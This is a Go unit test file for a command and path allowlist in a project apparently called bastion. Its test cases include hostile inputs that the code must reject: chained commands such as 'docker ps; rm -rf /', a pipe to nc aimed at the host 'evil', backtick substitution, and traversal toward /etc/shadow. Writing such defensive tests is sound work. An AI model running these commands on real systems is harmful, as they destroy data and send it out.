package security

import (
	"errors"
	"testing"

	"github.com/haasonsaas/bastion/internal/inventory"
)

func webPerms() *inventory.RolePermissions {
	return &inventory.RolePermissions{
		AllowedCommands: []string{
			"uptime",
			"df -h",
			"systemctl status *",
			"tail -n * /var/log/*",
			"docker *",
		},
		AllowedPathsRead:  []string{"/var/log", "/etc/nginx/"},
		AllowedPathsWrite: []string{"/tmp/bastion"},
	}
}

func TestIsCommandPermitted(t *testing.T) {
	perms := webPerms()
	tests := []struct {
		command string
		want    bool
	}{
		{"uptime", true},
		{"  uptime  ", true}, // outer whitespace trimmed
		{"uptime now", false},
		{"df -h", true},
		{"df -i", false},
		{"systemctl status nginx", true},
		{"systemctl restart nginx", false},
		{"tail -n 50 /var/log/nginx/access.log", true},
		{"docker ps", true},
		{"docker", false}, // glob requires the trailing space
		{"", false},
		// Chaining characters are rejected even when a glob would match.
		{"docker ps; rm -rf /", false},
		{"docker ps|nc evil 80", false},
		{"docker ps`id`", false},
	}
	for _, tt := range tests {
		if got := IsCommandPermitted(tt.command, perms); got != tt.want {
			t.Errorf("IsCommandPermitted(%q) = %v, want %v", tt.command, got, tt.want)
		}
	}
}

func TestIsCommandPermitted_EmptyListDeniesEverything(t *testing.T) {
	perms := &inventory.RolePermissions{}
	for _, command := range []string{"uptime", "true", ""} {
		if IsCommandPermitted(command, perms) {
			t.Errorf("empty allowlist permitted %q", command)
		}
	}
	if IsCommandPermitted("uptime", nil) {
		t.Error("nil permissions permitted a command")
	}
}

func TestIsCommandPermitted_WildcardStillRejectsMetachars(t *testing.T) {
	perms := &inventory.RolePermissions{AllowedCommands: []string{"*"}}
	if !IsCommandPermitted("anything at all", perms) {
		t.Error("wildcard should permit a clean command")
	}
	if IsCommandPermitted("anything; rm -rf /", perms) {
		t.Error("wildcard must not permit chaining")
	}
}

func TestIsPathReadable_Normalization(t *testing.T) {
	perms := webPerms()
	equivalent := []string{
		"/var/log/nginx",
		"/var/log/nginx/",
		"/var//log/nginx",
		"/var/./log/nginx",
	}
	for _, path := range equivalent {
		if !IsPathReadable(path, perms) {
			t.Errorf("IsPathReadable(%q) = false, want true", path)
		}
	}
	// The prefix itself, with or without trailing slash in the config.
	if !IsPathReadable("/var/log", perms) {
		t.Error("prefix itself should be readable")
	}
	if !IsPathReadable("/etc/nginx/nginx.conf", perms) {
		t.Error("trailing slash in configured prefix should not matter")
	}
	denied := []string{
		"/var/logs",      // sibling that shares a string prefix
		"/etc/passwd",    // outside all prefixes
		"/var/log/../..", // traversal never yields a readable path
		"/var/log/nginx/../../../etc/shadow",
	}
	for _, path := range denied {
		if IsPathReadable(path, perms) {
			t.Errorf("IsPathReadable(%q) = true, want false", path)
		}
	}
}

func TestIsPathWritable(t *testing.T) {
	perms := webPerms()
	if !IsPathWritable("/tmp/bastion/out.txt", perms) {
		t.Error("path under write prefix should be writable")
	}
	if IsPathWritable("/var/log/app.log", perms) {
		t.Error("read prefix must not grant writes")
	}
}

func TestCheckVariantsReturnTypedError(t *testing.T) {
	perms := webPerms()
	err := CheckCommand("rm -rf /", "web", perms)
	var denied *AllowlistDeniedError
	if !errors.As(err, &denied) {
		t.Fatalf("expected *AllowlistDeniedError, got %T", err)
	}
	if denied.Role != "web" || denied.Kind != "command" {
		t.Errorf("unexpected error detail: %+v", denied)
	}
	if err := CheckCommand("uptime", "web", perms); err != nil {
		t.Errorf("unexpected error: %v", err)
	}
	if err := CheckPathRead("/etc/shadow", "web", perms); err == nil {
		t.Error("expected path denial")
	}
	if err := CheckPathWrite("/etc/shadow", "web", perms); err == nil {
		t.Error("expected write denial")
	}
}
